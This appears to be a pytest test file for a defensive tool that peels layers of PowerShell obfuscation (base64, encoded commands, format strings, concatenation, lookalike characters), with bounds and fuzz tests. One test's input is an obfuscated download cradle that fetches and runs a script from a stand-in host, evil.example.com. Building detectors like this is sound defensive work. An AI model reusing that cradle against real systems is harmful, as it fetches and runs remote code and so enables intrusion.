    recovered = [layer for layer in layers if layer.content == SCRIPT]
    assert recovered, [layer.technique for layer in layers]
    assert URL in recovered[0].content
    found, wanted = essential(chain(layers, recovered[0])), essential(techniques)
    assert is_subsequence(found, wanted), (wanted, found)
    assert found[-1:] == wanted[-1:], (wanted, found)


CASES = [
    pytest.param(
        obfuscator,
        [WRAPPERS[(index + offset) % len(WRAPPERS)] for offset in range(depth - 1)],
        id=f"{obfuscator.__name__}-{depth}",
    )
    for index, obfuscator in enumerate(OBFUSCATORS)
    for depth in (1, 2, 3, 4)
]


@pytest.mark.parametrize(("technique", "wrappers"), CASES)
def test_obfuscation_suite(technique: Obfuscator, wrappers: list[Obfuscator]) -> None:
    text, techniques = stack(SCRIPT, [technique, *wrappers])
    if technique not in (variable, iex_alias, comspec_alias, set_alias) or wrappers:
        assert URL not in text
    assert_recovers(text, techniques)


def lookalikes(script: str) -> str:
    """Write blanks, dashes and single quotes the way word processors and droppers do."""
    return script.replace(" ", "\u00a0").replace("-", "\u2013").replace("'", "\u2019")


@pytest.mark.parametrize(("technique", "wrappers"), CASES[::3])
def test_obfuscation_suite_under_look_alike_characters(
    technique: Obfuscator, wrappers: list[Obfuscator]
) -> None:
    text, techniques = stack(SCRIPT, [technique, *wrappers])
    assert_recovers(lookalikes(text), ["powershell_lookalikes", *techniques])


def test_format_inside_concat_inside_base64_inside_encoded_command() -> None:
    text, techniques = stack(SCRIPT, [format_in_concat, from_base64, encoded_command])
    assert techniques == [
        "powershell_encoded_command",
        "powershell_from_base64",
        "powershell_format_operator",
        "powershell_concat",
        "powershell_iex_payload",
    ]
    assert_recovers(text, techniques)
    assert_recovers(f"cmd.exe /c {text}", techniques, Lang.BATCH)
    layers = peel_all(text)
    assert chain(layers, next(layer for layer in layers if layer.content == SCRIPT)) == techniques


def test_invoke_obfuscation_style_tokens() -> None:
    text = (
        ".(\"{1}{0}\" -f 'EX','I') (&(\"{1}{0}{2}\" -f 'w-Obj','Ne','ect') "
        "(\"{2}{0}{1}\"-f 'e','bClient','Net.W')).(\"{0}{2}{1}\" -f 'Downl','dString','oa')."
        "Invoke(('ht'+'tp://'+'evil.exa'+'mple.com/a.ps1'))"
    )
    layers = peel_all(text)
    assert layers[-1].content == (
        f"Invoke-Expression (New-Object ('Net.WebClient')).DownloadString.Invoke('{URL}')"
    )


# --- bounds ----------------------------------------------------------------------------

LONG_LINES = [
    "'" * 100_000,
    '"' * 100_000,
    "`" * 100_000,
    "$a" * 50_000,
    "'a'+" * 25_000 + "'b'",
    "(" * 50_000 + "'a'" + ")" * 50_000,
    '"$(' * 33_000,
    "@'\n" * 33_000,
    "<#" * 50_000,
    "$a='x';" * 14_000 + "& $a",
    "[char]65+" * 11_000 + "[char]66",
    "(" + ",".join(["1"] * 50_000) + ")|%{$_ -bxor 1}",
    "'a'" + ".Replace('a','b')" * 6_000,
    "-enc " + "A" * 100_000,
]


@pytest.mark.parametrize("line", LONG_LINES, ids=range(len(LONG_LINES)))
def test_long_lines_are_handled(line: str) -> None:
    for name, peeler in PS.items():
        try:
            found = peeler.run(line, budget())
        except BudgetExceeded:
            continue
        assert isinstance(found, list), name


def test_deeply_nested_layers() -> None:
    text = SCRIPT
    for _ in range(10):
        text, _ = from_base64(text)
    layers = peel_all(text)
    assert layers[-1].content == SCRIPT
    assert len(layers) == 11


def test_every_peeler_is_registered_under_its_name() -> None:
    for name, peeler in PS.items():
        assert peeler.name == name
        assert name.startswith("powershell_")
    kinds = {name: peeler.kind for name, peeler in PS.items()}
    assert [name for name, kind in kinds.items() if kind == "extract"] == [
        "powershell_encoded_command",
        "powershell_from_base64",
        "powershell_bxor",
        "powershell_iex_payload",
    ]
    assert PS["powershell_encoded_command"].languages is None
    assert PS["powershell_concat"].languages == frozenset({Lang.POWERSHELL})


_ATOMS = st.sampled_from(
    [
        "'",
        '"',
        "`",
        "$a",
        "=",
        "+",
        "(",
        ")",
        "[char]",
        "73",
        "0x41",
        ",",
        "-f",
        "{0}",
        "{1}",
        "-join",
        "[char[]]",
        "|",
        "%",
        "{",
        "}",
        "$_",
        "-bxor",
        "iex",
        "&",
        ".",
        "[",
        "]",
        "..",
        "-1",
        ".Replace(",
        "-replace",
        "[Convert]::FromBase64String(",
        "SGVsbG8gd29ybGQh",
        "-enc ",
        "@'\n",
        "'@",
        "\n",
        ";",
        " ",
        "$env:comspec[4,24,25]",
        "gcm i*x",
        "<#",
        "#>",
        "#",
        "[array]::Reverse(",
        ".ToCharArray()",
        "\u2018",
        "\u201d",
        "${a}",
        "param(",
        "`u{41}",
        "$(",
        "99999999",
        "{0,9999}",
        "\u212a",
        "\x00",
    ]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(_ATOMS, st.text(max_size=5)), max_size=40).map("".join))
def test_arbitrary_text_never_raises(text: str) -> None:
    for name, peeler in PEELERS_ALL.items():
        try:
            found = peeler.run(text, budget())
        except BudgetExceeded:
            continue
        for decoded in found:
            assert 0 <= decoded.start <= decoded.end <= len(text), name
